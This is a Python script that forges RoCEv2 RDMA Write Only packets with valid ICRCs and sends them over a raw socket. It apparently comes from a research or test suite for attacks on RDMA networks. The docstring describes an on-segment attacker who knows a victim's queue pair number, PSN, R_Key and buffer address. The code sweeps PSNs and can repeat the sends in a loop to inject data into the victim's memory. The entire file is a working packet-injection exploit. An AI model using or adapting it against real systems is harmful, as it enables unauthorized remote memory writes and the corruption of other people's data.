#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""Forged RoCEv2 RDMA Write Only frames, with a valid ICRC, sent on IFACE
from a raw socket: an attacker on the segment who knows the victim QP's
number, expected PSN, R_Key and buffer address.

  forge.py IFACE --src-mac M --src-ip A --dst-mac M --dst-ip A --qpn N
           --psn P [--sweep N] --rkey K --va V [--len 64] [--while FILE]

scapy's RoCE layer builds the first frame (and its ICRC); the others differ
in the PSN only and get theirs from icrc_check.py's rule, which must agree
with scapy's on the first. --sweep N sends N frames, PSNs P - N/2 ..
P + N/2 - 1 (every PSN around the expected one). --while FILE sends them
again and again while FILE exists. Paced (a short pause every 32 frames)
so the victim's receive ring takes them all. Prints how many it sent.
"""
import argparse
import os
import socket
import struct
import sys
import time
import zlib

from scapy.all import Ether, IP, UDP, Raw, raw
from scapy.contrib.roce import BTH

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                "..", "rc"))
from icrc_check import roce  # noqa: E402

WRITE_ONLY = 0x0A
BTH_OFF = 14 + 20 + 8  # Ethernet, IPv4, UDP


def num(s):
    return int(s, 0)


def scapy_frame(a, psn):
    payload = b"\xee" * a.len
    pad = (4 - a.len % 4) % 4
    reth = struct.pack("!QII", a.va, a.rkey, a.len)
    p = (Ether(src=a.src_mac, dst=a.dst_mac) /
         IP(src=a.src_ip, dst=a.dst_ip, flags="DF", ttl=64) /
         UDP(sport=0xc0de, dport=4791, chksum=0) /
         BTH(opcode=WRITE_ONLY, padcount=pad, pkey=0xffff, dqpn=a.qpn,
             ackreq=1, psn=psn & 0xFFFFFF) /
         Raw(reth + payload + b"\0" * pad))
    return raw(p)


def with_psn(template, psn):
    f = bytearray(template)
    f[BTH_OFF + 9:BTH_OFF + 12] = (psn & 0xFFFFFF).to_bytes(3, "big")
    f[-4:] = struct.pack("<I", zlib.crc32(roce(bytes(f))[0]) & 0xFFFFFFFF)
    return bytes(f)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("iface")
    ap.add_argument("--src-mac", required=True)
    ap.add_argument("--src-ip", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--dst-ip", required=True)
    ap.add_argument("--qpn", type=num, required=True)
    ap.add_argument("--psn", type=num, required=True)
    ap.add_argument("--sweep", type=num, default=1)
    ap.add_argument("--rkey", type=num, required=True)
    ap.add_argument("--va", type=num, required=True)
    ap.add_argument("--len", type=num, default=64)
    ap.add_argument("--while", dest="while_file", default=None)
    a = ap.parse_args()

    first = a.psn - a.sweep // 2 if a.sweep > 1 else a.psn
    template = scapy_frame(a, first)
    if with_psn(template, first) != template:
        sys.exit("forge.py: scapy's ICRC and icrc_check.py's disagree")
    frames = [with_psn(template, first + i) for i in range(a.sweep)]
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    sent = 0
    while True:
        for f in frames:
            s.send(f)
            sent += 1
            if sent % 32 == 0:
                time.sleep(0.001)
        if not a.while_file or not os.path.exists(a.while_file):
            break
    s.close()
    print(sent)


if __name__ == "__main__":
    main()
